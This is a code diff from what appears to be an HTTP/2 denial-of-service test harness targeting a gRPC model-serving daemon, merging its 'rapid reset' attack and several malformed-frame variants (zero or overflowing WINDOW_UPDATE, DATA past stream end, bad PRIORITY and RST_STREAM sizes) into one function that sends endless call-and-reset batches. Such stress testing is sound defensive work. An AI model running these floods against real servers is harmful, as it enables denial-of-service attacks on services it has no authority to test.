@@ -143,7 +143,8 @@ def padding(site):
         pass
 
 
-def _rapid_reset(path, body, site):
+def _calls_and_more(path, body, behind, site):
+    """Calls without end, each with what `behind(stream)` gives behind it."""
     while not site.over():
         wire = site.wire()
         block = http2.call_headers(path)
@@ -152,7 +153,7 @@ def _rapid_reset(path, body, site):
             for _ in range(100):
                 stream, wire.next_stream = wire.next_stream, wire.next_stream + 2
                 data += (frame(http2.HEADERS, http2.END_HEADERS, stream, block) + frame(http2.DATA, 1, stream, body) +
-                         frame(http2.RST_STREAM, 0, stream, CANCEL))
+                         behind(stream))
             if not site.push(wire, data):
                 break
         wire.close()
@@ -162,26 +163,12 @@ for _path, _body, _name, _short in ((CHECK, EMPTY, "Check", True), (PREDICT, DIN
                                     (METADATA, DIN, "GetModelMetadata", False),
                                     (REFLECTION, REFLECT_LIST, "reflection", False), (WATCH, EMPTY, "Watch", False)):
     REGISTERED.append(Attack(f"rapid reset of {_name}", "calls that are reset at once",
-                             functools.partial(_rapid_reset, _path, _body), short=_short))
+                             functools.partial(_calls_and_more, _path, _body,
+                                               lambda s: frame(http2.RST_STREAM, 0, s, CANCEL)), short=_short))
 
 
-def _resets_asked_for(spoiler, site):
-    """Calls that the daemon itself resets: they count no longer as open, and their work may go on."""
-    while not site.over():
-        wire = site.wire()
-        block = http2.call_headers(PREDICT)
-        while not site.over():
-            data = bytearray()
-            for _ in range(100):
-                stream, wire.next_stream = wire.next_stream, wire.next_stream + 2
-                data += (frame(http2.HEADERS, http2.END_HEADERS, stream, block) + frame(http2.DATA, 1, stream, DIN) +
-                         spoiler(stream))
-            if not site.push(wire, data):
-                break
-        wire.close()
-
-
-for _name, _spoiler in (
+# Calls that the daemon itself resets: they count no longer as open, and their work may go on.
+for _name, _behind in (
         ("WINDOW_UPDATE of 0", lambda s: frame(http2.WINDOW_UPDATE, 0, s, bytes(4))),
         ("a window beyond 2^31", lambda s: frame(http2.WINDOW_UPDATE, 0, s, struct.pack(">I", 0x7fffffff)) * 2),
         ("DATA behind the end", lambda s: frame(http2.DATA, 0, s, b"x" * 100)),
@@ -190,7 +177,7 @@ for _name, _spoiler in (
         ("PRIORITY of 4 bytes", lambda s: frame(http2.PRIORITY, 0, s, bytes(4))),
         ("RST_STREAM of 3 bytes", lambda s: frame(http2.RST_STREAM, 0, s, bytes(3)))):
     REGISTERED.append(Attack(f"resets asked for: {_name}", "a frame behind each call that is against the rules",
-                             functools.partial(_resets_asked_for, _spoiler)))
+                             functools.partial(_calls_and_more, PREDICT, DIN, _behind)))
 
 
 # Headers.
